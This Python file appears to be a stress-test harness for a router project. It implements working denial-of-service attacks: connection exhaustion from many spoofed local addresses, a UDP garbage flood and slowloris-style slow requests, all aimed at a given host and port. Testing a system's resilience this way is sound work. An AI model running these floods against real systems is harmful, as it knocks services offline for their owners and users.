"""What may a stranger on the network throw at a router? A program, run in the attacker's namespace.

    python attacks.py connections HOST PORT COUNT SOURCES SECONDS
    python attacks.py datagrams HOST PORT PER_SECOND SECONDS
    python attacks.py slow-requests HOST PORT COUNT SECONDS

Prints one line, what it did, and ends.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import resource
import socket
import sys
import time
from collections.abc import Callable

SOURCE_NETWORK = "10.98.0.0/16"
"""A route to it, local to the attacker, lets it speak from any of these addresses."""

_dice = random.Random(5)


def connections(host: str, port: int, count: int, sources: int, seconds: float) -> str:
    """Open that many, from that many addresses (0: our own), within about that time, and keep all
    open. They say nothing, or garbage, or begin well and announce a huge message."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
    words = [b"", b"GET / HTTP/1.1\r\n\r\n", _dice.randbytes(4096), b"weave-py\0\1\xff\xff\xff\xff"]
    kept: list[socket.socket] = []
    waiting: list[tuple[socket.socket, bytes]] = []
    connected, start = 0, time.monotonic()
    for number, word in zip(range(count), itertools.cycle(words), strict=False):
        stream = socket.socket()
        stream.setblocking(False)
        if sources:
            own = number % sources
            stream.bind((f"10.98.{own // 250}.{own % 250 + 1}", 0))
        stream.connect_ex((host, port))
        waiting.append((stream, word))
        kept.append(stream)
        if len(waiting) > 200:
            connected += speak(*waiting.pop(0))
        time.sleep(max(0.0, start + number * seconds / count - time.monotonic()))
    time.sleep(0.5)
    connected += sum(speak(*pair) for pair in waiting)
    took = time.monotonic() - start
    return f"{count} connections tried in {took:.1f} s, {connected} of them made"


def speak(stream: socket.socket, word: bytes) -> bool:
    """Say the word, if the connection is there."""
    with contextlib.suppress(OSError):
        stream.getpeername()
        if word:
            stream.send(word)
        return True
    return False


def datagrams(host: str, port: int, per_second: int, seconds: float) -> str:
    """Garbage of all kinds: random bytes, and what looks like ours."""
    kinds = [_dice.randbytes(_dice.choice([1, 15, 16, 17, 64, 1400])) for _ in range(64)]
    kinds += [bytes([kind]) + _dice.randbytes(200) for kind in range(64)]
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    sent, start = 0, time.monotonic()
    while (now := time.monotonic()) < start + seconds:
        while sent < (now - start) * per_second:
            with contextlib.suppress(OSError):
                sockets[sent % 16].sendto(kinds[sent % len(kinds)], (host, port))
            sent += 1
        time.sleep(0.001)
    return f"{sent} datagrams in {time.monotonic() - start:.1f} s"


def slow_requests(host: str, port: int, count: int, seconds: float) -> str:
    """So many clients at a time that send a byte a second, and come again when they are cut off."""
    streams: list[socket.socket] = []
    begun, start = 0, time.monotonic()
    while time.monotonic() < start + seconds:
        while len(streams) < count:
            stream = socket.socket()
            stream.setblocking(False)
            stream.connect_ex((host, port))
            streams.append(stream)
            begun += 1
        time.sleep(0.2)
        streams = [stream for stream in streams if trickle(stream)]
    return f"{begun} slow requests begun, {count} at a time"


def trickle(stream: socket.socket) -> bool:
    """One byte more; False once there is an answer, or an end."""
    try:
        stream.send(b"G")
        stream.recv(1000)
    except BlockingIOError:
        return True
    except OSError:
        pass
    stream.close()
    return False


if __name__ == "__main__":
    what, at, *numbers = sys.argv[1:]
    port, *rest = (int(word) for word in numbers)
    attack: dict[str, Callable[..., str]] = {
        "connections": connections,
        "datagrams": datagrams,
        "slow-requests": slow_requests,
    }
    print(attack[what](at, port, *rest), flush=True)
